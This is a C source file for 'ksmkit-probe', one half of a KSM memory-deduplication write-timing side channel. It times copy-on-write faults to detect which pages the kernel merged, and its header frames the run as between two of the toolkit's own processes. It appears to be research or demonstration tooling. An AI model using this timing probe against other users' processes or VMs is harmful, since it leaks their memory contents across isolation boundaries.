/*
 * ksmkit-probe: one side of `ksmkit probe`, the KSM write-timing side channel
 * run between two processes of our own (an attacker and a victim).
 *
 * Usage: ksmkit-probe PAGES
 *
 * The process maps PAGES anonymous private pages (MADV_NOHUGEPAGE, so that
 * every page is a 4 KiB page KSM can merge on its own), reads their contents
 * from stdin (PAGES * 4096 bytes, written as they come), answers "loaded",
 * then obeys one command per line on stdin, answering one line on stdout:
 *
 *   merge   madvise(MADV_MERGEABLE) over the pages (only them: no prctl, so
 *           the stack, heap and libc are never scanned);
 *           answer "merged T" (T: CLOCK_MONOTONIC in ns just after the call)
 *   time    for every page in address order: read its first byte (untimed),
 *           then time one write of one byte to it; answer
 *           "times T_START T_END D0 D1 ... D(PAGES-1)" (durations in ns;
 *           T_START the clock before the first read, T_END after the last write)
 *   exit    exit 0 (so does EOF on stdin)
 *
 * Which pages are guesses and which are the attacker's calibration pages is
 * the TypeScript side's business: this program only writes and times.
 *
 * Why a read first. Once ksmd merged a page, its PTE points read-only at the
 * KSM page; a private page's PTE is writable. The untimed read right before the
 * timed write brings the page's TLB entry and the cache line in for both kinds
 * alike, and takes no fault either way (the PTE is present and readable), so
 * it breaks no sharing. The timed write then differs only in what the leak is
 * about: a write-protect fault and a copy (do_wp_page never reuses a KSM
 * folio) against a plain store.
 *
 * Why a full fence after the store. A store to a writable page may still sit
 * in the store buffer when the second clock read runs; the fence makes both
 * kinds of write complete inside the timed window. clock_gettime(CLOCK_MONOTONIC)
 * goes through the vDSO (tens of ns) and gives ns directly, without having to
 * know the TSC's frequency as rdtscp would.
 *
 * Lifetime: PR_SET_PDEATHSIG, so the process dies with the node process that
 * started it; it exits on EOF of stdin too.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

#ifndef MADV_MERGEABLE
#define MADV_MERGEABLE 12
#endif
#ifndef MADV_NOHUGEPAGE
#define MADV_NOHUGEPAGE 15
#endif

#define PAGE_BYTES 4096UL
/* 1 Mi pages = 4 GiB: more than any probe needs, small enough for the reply buffer below. */
#define MAX_PAGES (1UL << 20)

static uint8_t *region;
static unsigned long page_count;
static uint64_t *durations_ns;

static void die(const char *what) {
  dprintf(2, "ksmkit-probe: %s: %s\n", what, strerror(errno));
  exit(1);
}

static uint64_t now_ns(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
}

static void write_all(int fd, const char *buf, size_t len) {
  while (len > 0) {
    ssize_t n = write(fd, buf, len);
    if (n < 0) {
      if (errno == EINTR) continue;
      die("write");
    }
    buf += n;
    len -= (size_t)n;
  }
}

static void read_all(int fd, uint8_t *buf, size_t len) {
  while (len > 0) {
    ssize_t n = read(fd, buf, len);
    if (n < 0) {
      if (errno == EINTR) continue;
      die("read contents");
    }
    if (n == 0) {
      dprintf(2, "ksmkit-probe: stdin ended before all page contents arrived\n");
      exit(1);
    }
    buf += n;
    len -= (size_t)n;
  }
}

/* One line of stdin without its newline, into `line`; 0 at EOF. */
static int read_line(char *line, size_t size) {
  size_t used = 0;
  for (;;) {
    char c;
    ssize_t n = read(0, &c, 1);
    if (n < 0) {
      if (errno == EINTR) continue;
      die("read command");
    }
    if (n == 0) return 0;
    if (c == '\n') break;
    if (used + 1 < size) line[used++] = c;
  }
  line[used] = '\0';
  return 1;
}

static void time_writes(void) {
  uint64_t start = now_ns();
  for (unsigned long i = 0; i < page_count; i++) {
    volatile uint8_t *p = region + i * PAGE_BYTES;
    uint8_t v = *p;
    __atomic_thread_fence(__ATOMIC_SEQ_CST);
    uint64_t t0 = now_ns();
    *p = (uint8_t)(v + 1);
    __atomic_thread_fence(__ATOMIC_SEQ_CST);
    uint64_t t1 = now_ns();
    durations_ns[i] = t1 - t0;
  }
  uint64_t end = now_ns();
  /* "times " + 2 * (20 digits + space) + (space + 20 digits) per page + newline. */
  size_t size = 64 + page_count * 21;
  char *reply = malloc(size);
  if (reply == NULL) die("malloc");
  size_t used = (size_t)snprintf(reply, size, "times %llu %llu", (unsigned long long)start,
                                 (unsigned long long)end);
  for (unsigned long i = 0; i < page_count; i++)
    used += (size_t)snprintf(reply + used, size - used, " %llu", (unsigned long long)durations_ns[i]);
  reply[used++] = '\n';
  write_all(1, reply, used);
  free(reply);
}

int main(int argc, char **argv) {
  if (argc != 2) {
    dprintf(2, "usage: ksmkit-probe PAGES (contents on stdin, then commands: merge, time, exit)\n");
    return 64;
  }
  char *end;
  page_count = strtoul(argv[1], &end, 10);
  if (*end != '\0' || page_count == 0 || page_count > MAX_PAGES) {
    dprintf(2, "ksmkit-probe: PAGES must be from 1 to %lu, got %s\n", MAX_PAGES, argv[1]);
    return 64;
  }
  if (prctl(PR_SET_PDEATHSIG, SIGKILL) != 0) die("prctl(PR_SET_PDEATHSIG)");
  if (getppid() == 1) return 1; /* The parent died before the prctl took effect. */

  size_t bytes = page_count * PAGE_BYTES;
  region = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (region == MAP_FAILED) die("mmap");
  /* Before the first touch: a huge page would have to be split before KSM merges any of it. */
  if (madvise(region, bytes, MADV_NOHUGEPAGE) != 0) die("madvise(MADV_NOHUGEPAGE)");
  durations_ns = calloc(page_count, sizeof *durations_ns);
  if (durations_ns == NULL) die("calloc");
  read_all(0, region, bytes);
  write_all(1, "loaded\n", 7);

  char line[64];
  while (read_line(line, sizeof line)) {
    if (strcmp(line, "merge") == 0) {
      if (madvise(region, bytes, MADV_MERGEABLE) != 0) die("madvise(MADV_MERGEABLE)");
      char reply[48];
      int n = snprintf(reply, sizeof reply, "merged %llu\n", (unsigned long long)now_ns());
      write_all(1, reply, (size_t)n);
    } else if (strcmp(line, "time") == 0) {
      time_writes();
    } else if (strcmp(line, "exit") == 0) {
      return 0;
    } else {
      dprintf(2, "ksmkit-probe: unknown command \"%s\" (merge, time, exit)\n", line);
      return 64;
    }
  }
  return 0;
}
